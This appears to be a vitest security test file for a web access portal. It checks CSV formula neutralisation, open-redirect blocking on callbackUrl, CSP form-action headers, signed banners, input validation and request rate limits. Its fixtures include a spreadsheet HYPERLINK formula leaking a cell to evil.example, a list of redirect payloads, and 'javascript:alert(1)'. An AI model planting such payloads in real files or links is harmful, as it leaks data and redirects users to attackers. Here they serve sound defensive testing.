/**
 * Issue 24 hardening over HTTP against a running portal (next start) and the stand-ins: every CSV export
 * neutralises formula cells also when they hold line breaks; `/signin?callbackUrl=` and next-auth's
 * callback never leave the portal's origin; every page's CSP has `form-action`; the `?deleted=` banner
 * shows only what the portal signed; free text refuses control characters; and a create/withdraw loop of
 * access requests is cut off per person and hour (the portal's clock moved through CLOCK_OFFSET_FILE).
 */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { PutCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import type { PortalStack } from '../support/portal-stack';
import { useClockedStack } from '../support/clocked-stack';
import { initiateAuth, type CookieJar } from '../support/http-session';
import { directoryClient } from '../support/directory';
import { actionForms, callAction, postActionForm, type ActionForm } from '../admin/admin-forms';

let stack: PortalStack;
let jars: Record<string, CookieJar>;
const { setClockOffset } = useClockedStack(
  [
    ['portal-admin', 'PortalAdmin1!'],
    ['user-lob-b', 'UserLobB1!'],
    ['owner-lob-a', 'OwnerLobA1!'],
  ],
  // Lambda's audit mode: the launch record is written ahead, with the presign (a failure then follows it up).
  { AUDIT_WRITE: 'before-response' },
  (started) => ({ stack, jars } = started),
);

const get = (p: string, who?: string) =>
  fetch(`${stack.url}${p}`, { headers: who ? { cookie: jars[who].header() } : {}, redirect: 'manual' });
const doc = () => directoryClient(stack.env).doc;
const put = (table: string, item: Record<string, unknown>) =>
  doc().send(new PutCommand({ TableName: table, Item: item }));

async function formsOf(p: string, who: string): Promise<ActionForm[]> {
  const res = await get(p, who);
  expect(res.status, `${who} GET ${p}`).toBe(200);
  return actionForms(await res.text());
}

/** The form whose own (non-React) fields are exactly `names`. */
function formNamed(forms: ActionForm[], names: string[]): ActionForm {
  const own = (f: ActionForm) =>
    f.fields
      .map(([n]) => n)
      .filter((n) => !n.startsWith('$'))
      .sort();
  const form = forms.find((f) => JSON.stringify(own(f)) === JSON.stringify([...names].sort()));
  if (!form) throw new Error(`no form with fields ${names.join(', ')}`);
  return form;
}

/** The "Request access" form for a LOB (its hidden `lob` field). */
function requestFormFor(forms: ActionForm[], lob: string): ActionForm {
  const form = forms.find((f) => f.fields.some(([n, v]) => n === 'lob' && v === lob));
  if (!form) throw new Error(`no request form for ${lob}`);
  return form;
}

async function csvRows(p: string, who = 'portal-admin'): Promise<Record<string, string>[]> {
  const res = await get(p, who);
  expect(res.status, p).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/csv');
  return Papa.parse<Record<string, string>>(await res.text(), { header: true, skipEmptyLines: true }).data;
}

/** Formula cells as a spreadsheet would run them; each holds a line break after the formula. */
const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")\nsecond line',
  plus: '+SUM(1,2)\r\nsecond line',
  minus: '-2+3\nx',
  at: '@SUM(1,2)\nx',
  tab: '\t=1+1\nx',
  cr: '\r=1+1',
};
const neutralised = (raw: string) => `'${raw}`;

describe('CSV exports: every formula cell is neutralised, whatever follows it', () => {
  it('/admin/users/export', async () => {
    await put(stack.env.TABLE_USERS, {
      username: 'csv-formula-user',
      lobs: ['lob-a'],
      kind: 'user',
      version: 1,
      updatedAt: new Date().toISOString(),
      updatedBy: FORMULAS.equals,
    });
    const row = (await csvRows('/admin/users/export')).find((r) => r.username === 'csv-formula-user');
    expect(row?.updatedBy).toBe(neutralised(FORMULAS.equals));
  });

  it('/admin/audit/export', async () => {
    const at = new Date().toISOString();
    const cells = { target: FORMULAS.plus, before: FORMULAS.at, after: FORMULAS.tab, action: FORMULAS.cr };
    await put(stack.env.TABLE_AUDIT, {
      pk: 'audit',
      sk: `${at}#csv-formula-0001`,
      type: 'admin',
      at,
      user: 'portal-admin',
      requestId: 'csv-formula-0001',
      ...cells,
      ttl: Math.floor(Date.now() / 1000) + 3600,
    });
    const row = (await csvRows('/admin/audit/export?type=admin')).find((r) => r.requestId === 'csv-formula-0001');
    expect(row).toMatchObject(Object.fromEntries(Object.entries(cells).map(([k, v]) => [k, neutralised(v)])));
  });

  it('/admin/reviews/<id>/export (the owner’s download)', async () => {
    const id = 'csvformula-review-0001';
    const at = new Date().toISOString();
    await put(stack.env.TABLE_REVIEWS, {
      pk: `review#${id}`,
      sk: 'meta',
      reviewLob: 'lob-a',
      status: 'finished',
      createdAt: at,
      createdBy: 'owner-lob-a',
      dueAt: at,
      total: 1,
      decided: 1,
      groups: [],
      reviewers: { users: ['owner-lob-a'], groups: [] },
    });
    await put(stack.env.TABLE_REVIEWS, {
      pk: `review#${id}`,
      sk: 'member#user-lob-a',
      username: 'user-lob-a',
      decision: 'keep',
      decidedBy: 'owner-lob-a',
      decidedAt: at,
      comment: FORMULAS.minus,
    });
    const [row] = await csvRows(`/admin/reviews/${id}/export`, 'owner-lob-a');
    expect(row).toMatchObject({ member: 'user-lob-a', comment: neutralised(FORMULAS.minus) });
  });

  it('a justification typed with a control character (tab) is refused, naming the field (the same freeText rule guards comments, reasons and LOB texts)', async () => {
    const request = requestFormFor(await formsOf('/', 'user-lob-b'), 'lob-a');
    const res = await callAction(stack.url, '/', request.actionId, jars['user-lob-b'].header(), {
      lob: 'lob-a',
      justification: 'Needs lob-a\tfor =cmd|x',
      days: '7',
    });
    expect(await res.text()).toContain('Justification: Remove control characters');
    expect(await pendingOf('user-lob-b')).toEqual([]);
  });

  // Last: a LOB whose key is a formula would show on every admin page of the other tests.
  it('/admin/usage/export', async () => {
    await put(stack.env.TABLE_LOBS, {
      lob: FORMULAS.equals,
      displayName: 'x',
      accountId: '111111111111',
      domainId: 'd-x',
      region: 'us-east-1',
      enabled: true,
      version: 1,
    });
    const rows = await csvRows('/admin/usage/export');
    expect(rows.map((r) => r.lob)).toContain(neutralised(FORMULAS.equals));
    expect(rows.map((r) => r.lob)).not.toContain(FORMULAS.equals);
  });
});

async function pendingOf(requester: string): Promise<string[]> {
  const out = await doc().send(
    new QueryCommand({
      TableName: stack.env.TABLE_REQUESTS,
      IndexName: 'byRequester',
      KeyConditionExpression: 'requester = :r',
      ExpressionAttributeValues: { ':r': requester },
    }),
  );
  return (out.Items ?? []).filter((i) => i.status === 'pending').map((i) => String(i.id));
}

describe('callbackUrl: a signed-in user only ever lands on a path of the portal', () => {
  const hostile = [
    '/%09/evil.example',
    '/\t/evil.example',
    '/\\evil.example',
    '//evil.example',
    'https://evil.example',
    '/\r\n/evil.example',
    '/\n/evil.example',
    '\t//evil.example',
    '/%0D%0A/evil.example',
    'javascript:alert(1)',
    '///evil.example',
    '/.//evil.example',
  ];

  it.each(hostile)('/signin?callbackUrl=%j stays on the portal', async (value) => {
    const res = await get(`/signin?callbackUrl=${encodeURIComponent(value)}`, 'portal-admin');
    expect([303, 307, 308]).toContain(res.status);
    const location = res.headers.get('location')!;
    const target = new URL(location, stack.url);
    expect(target.origin).toBe(new URL(stack.url).origin);
    // What a browser does with the Location: strips tab/CR/LF, reads `\` as `/`; still a path of the portal.
    const asBrowser = new URL(location.replace(/[\t\r\n]/g, '').replace(/\\/g, '/'), stack.url);
    expect(asBrowser.origin).toBe(new URL(stack.url).origin);
    expect(location).not.toMatch(/^\/\/|^\/\\/);
  });

  it('keeps a path of the portal, with its query', async () => {
    const res = await get(`/signin?callbackUrl=${encodeURIComponent('/admin/users?q=user-lob')}`, 'portal-admin');
    expect(res.headers.get('location')).toMatch(/\/admin\/users\?q=user-lob$/);
  });

  it.each(hostile)('next-auth’s sign-in with callbackUrl=%j answers a URL of the portal', async (value) => {
    const csrf = await fetch(`${stack.url}/api/auth/csrf`);
    const cookie = csrf.headers
      .getSetCookie()
      .map((c) => c.split(';')[0])
      .join('; ');
    const { csrfToken } = (await csrf.json()) as { csrfToken: string };
    const res = await fetch(`${stack.url}/api/auth/callback/credentials`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie },
      body: new URLSearchParams({
        csrfToken,
        username: 'user-lob-b',
        password: 'UserLobB1!',
        callbackUrl: value,
        json: 'true',
      }),
    });
    const answer = res.status === 200 ? ((await res.json()) as { url: string }).url : res.headers.get('location')!;
    expect(new URL(answer).origin).toBe(new URL(stack.url).origin);
    expect(new URL(answer.replace(/[\t\r\n]/g, '').replace(/\\/g, '/')).origin).toBe(new URL(stack.url).origin);
  });
});

describe('CSP form-action on every page', () => {
  it.each([
    '/signin',
    '/',
    '/admin',
    '/admin/lobs',
    '/admin/users',
    '/admin/audit',
    '/admin/requests',
    '/no-such-page',
  ])('%s', async (p) => {
    const res = await get(p, p === '/signin' ? undefined : 'portal-admin');
    const csp = res.headers.get('content-security-policy') ?? '';
    const formAction = /(?:^|; )form-action ([^;]+)/.exec(csp)?.[1];
    expect(formAction, csp).toBeDefined();
    expect(formAction!.split(' ')).toEqual(
      expect.arrayContaining(["'self'", new URL(stack.env.COGNITO_ISSUER).origin]),
    );
    expect(formAction).not.toContain('*;');
  });

  it('the launch API (no pages) allows no form at all', async () => {
    const res = await get('/api/studio/user-lob-a');
    expect(res.headers.get('content-security-policy')).toContain("form-action 'none'");
  });
});

/** The text of the page's status banner (the `role="status"` region). */
function banner(html: string): string {
  const region = /<div role="status" aria-live="polite">([\s\S]*?)<\/div>/.exec(html)?.[1] ?? '';
  return region.replace(/<[^>]+>/g, '').trim();
}

describe('?deleted= shows only what the portal signed', () => {
  it('a crafted value shows nothing; a real deletion shows the LOB', async () => {
    const crafted = await (
      await get('/admin/lobs?deleted=your-account-is-locked-call-the-helpdesk', 'portal-admin')
    ).text();
    expect(banner(crafted)).toBe('');

    await put(stack.env.TABLE_LOBS, {
      lob: 'lob-short-lived',
      displayName: 'Short lived',
      accountId: '111111111111',
      domainId: 'd-loba1example',
      region: 'us-east-1',
      enabled: true,
      version: 1,
    });
    const form = formNamed(await formsOf('/admin/lobs/lob-short-lived', 'portal-admin'), ['lob', 'version']);
    const deleted = await postActionForm(stack.url, '/admin/lobs/lob-short-lived', form, jars['portal-admin'].header());
    expect(deleted.status).toBe(303);
    const location = deleted.headers.get('location')!;
    const page = await (await get(location, 'portal-admin')).text();
    expect(banner(page)).toBe('Deleted lob-short-lived.');
    // The same signature under another name shows nothing.
    const forged = location.replace('lob-short-lived', 'lob-a');
    expect(banner(await (await get(forged, 'portal-admin')).text())).toBe('');
  });
});

describe('a request/withdraw loop is limited per person and hour', () => {
  it('the 11th filing or withdrawal within the hour is refused with a clear message; the next hour takes it', async () => {
    const who = 'user-lob-b';
    const snsBefore = (await snsMessages()).filter((m) => m.attributes.event === 'request.created').length;
    const create = async () => {
      const form = requestFormFor(await formsOf('/', who), 'lob-a');
      const res = await callAction(stack.url, '/', form.actionId, jars[who].header(), {
        lob: 'lob-a',
        justification: 'Loop test: access to lob-a please',
        days: '7',
      });
      return res.text();
    };
    const withdraw = async () => {
      const [id] = await pendingOf(who);
      const form = formNamed(await formsOf('/', who), ['id']);
      const res = await callAction(stack.url, '/', form.actionId, jars[who].header(), { id });
      return res.text();
    };
    for (let i = 0; i < 5; i++) {
      expect(await create()).toContain('Request sent');
      expect(await withdraw()).toContain('Withdrew your request for lob-a');
    }
    const refused = await create();
    expect(refused).toContain('You have filed or withdrawn 10 access requests this hour');
    expect(await pendingOf(who)).toEqual([]);
    const created = (await snsMessages()).filter((m) => m.attributes.event === 'request.created').length;
    expect(created - snsBefore).toBe(5);

    setClockOffset(3600);
    expect(await create()).toContain('Request sent');
    expect(await pendingOf(who)).toHaveLength(1);
  });
});

async function snsMessages() {
  const res = await fetch(`${stack.standIns.urls.control}/sns/messages`);
  return ((await res.json()) as { messages: { attributes: Record<string, string>; message: string }[] }).messages;
}

describe('audit records are only ever added', () => {
  it('a launch whose outcome changes after its record was written gets a follow-up record naming it; the audit page shows one launch', async () => {
    const { accessToken } = await initiateAuth(
      { endpoint: stack.env.COGNITO_ENDPOINT, region: stack.env.AWS_REGION, clientId: 'portal-cli' },
      'user-lob-b',
      'UserLobB1!',
    );
    await stack.control.setFault({
      service: 'sagemaker',
      operation: 'CreatePresignedDomainUrl',
      error: 'AccessDeniedException',
      rate: 1,
    });
    try {
      const res = await fetch(`${stack.url}/api/studio/user-lob-b`, {
        headers: { authorization: `Bearer ${accessToken}`, accept: 'application/json' },
      });
      expect(res.status).toBe(502);
      expect(((await res.json()) as { code: string }).code).toBe('lob.presign_denied');
      const requestId = res.headers.get('x-request-id')!;
      const records = (await directoryClient(stack.env).auditFor(requestId)).sort((a, b) =>
        String(a.sk).localeCompare(String(b.sk)),
      );
      expect(records).toHaveLength(2);
      const [first, followUp] = records;
      expect(first).toMatchObject({ outcome: 'success', user: 'user-lob-b', lob: 'lob-b' });
      expect(first.followsUp).toBeUndefined();
      expect(followUp).toMatchObject({
        outcome: 'lob.presign_denied',
        previousOutcome: 'success',
        followsUp: first.sk,
        user: 'user-lob-b',
        lob: 'lob-b',
        requestId,
      });

      const page = await (await get('/admin/audit?type=launch&user=user-lob-b', 'portal-admin')).text();
      expect(page.split(`>${requestId}<`)).toHaveLength(2); // one row
      expect(page).toContain('data-testid="audit-outcome-changed"');
    } finally {
      await stack.control.clearFaults();
    }
  });
});
